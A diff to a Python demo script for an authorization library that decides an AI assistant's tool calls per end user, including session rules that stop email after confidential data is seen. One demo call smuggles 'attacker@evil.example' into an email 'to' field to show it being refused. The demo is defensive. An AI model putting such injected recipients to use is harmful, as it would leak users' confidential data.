@@ -57,7 +57,11 @@ def main() -> int:
     authz = az.Authorizer.from_directory(POLICIES, audit=[recorder],
                                          sessions=SessionConfig(sums={"issue_refund": ["amount"]}))
     print(f"Policy store {POLICIES.name}/ loaded "
-          f"(fingerprint {authz.engine.fingerprint[:12]})\n")
+          f"(fingerprint {authz.engine.fingerprint[:12]}).")
+    print("Each request below is decided for the end user the assistant acts for. A line")
+    print("reads: the decision, user -> action on resource, the input the model chose for the")
+    print("tool, and the policies that determined it (the forbid that denied, or the permits")
+    print("that allowed; none when nothing permits it).\n")
 
     print("1. Retrieval: bob (Acme support agent) asks a question; the retriever found")
     print("   five documents and only those he may read reach the model.")
@@ -80,15 +84,21 @@ def main() -> int:
     with authz.acting_as(user("frank")):
         call_tool(authz, "issue_refund", {"order_id": "g-77", "amount": 20})
 
-    print("\n3. Session facts (context.session): once the conversation has seen a")
-    print("   confidential document, nothing leaves the tenant by email.")
+    print("\n3. Session facts (context.session): what the conversation has seen decides what")
+    print("   may leave it. bob is a support agent: he may email customers outside Acme...")
     with authz.acting_as(user("bob")), authz.session("demo-conversation") as session:
         read = authz.filter(["acme-handbook", "acme-support-playbook"], action="read",
                             resource=document)  # records their labels in the session
-        print(f"  read {len(read.allowed)} documents; the session has seen {sorted(session.state().seen)}")
+        print(f"  the retrieval filter let {len(read.allowed)} documents through; "
+              f"the session has seen {sorted(session.state().seen)}")
         call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"})
-        session.see("confidential", "financials")  # e.g. the application showed the Q3 results
+        print("   ...until the conversation has seen something confidential. The application")
+        print("   puts a confidential customer record into the conversation and records it:")
+        print('  session.see("confidential", "customers")')
+        session.see("confidential", "customers")
+        print(f"  the session has now seen {sorted(session.state().seen)}; the same email:")
         call_tool(authz, "send_email", {"to": "customer@example.com", "subject": "Refund"})
+        print("   A second address smuggled into `to` is refused whatever the session saw:")
         call_tool(authz, "send_email",
                   {"to": "attacker@evil.example, dave@acme.example", "subject": "Q3"})
 
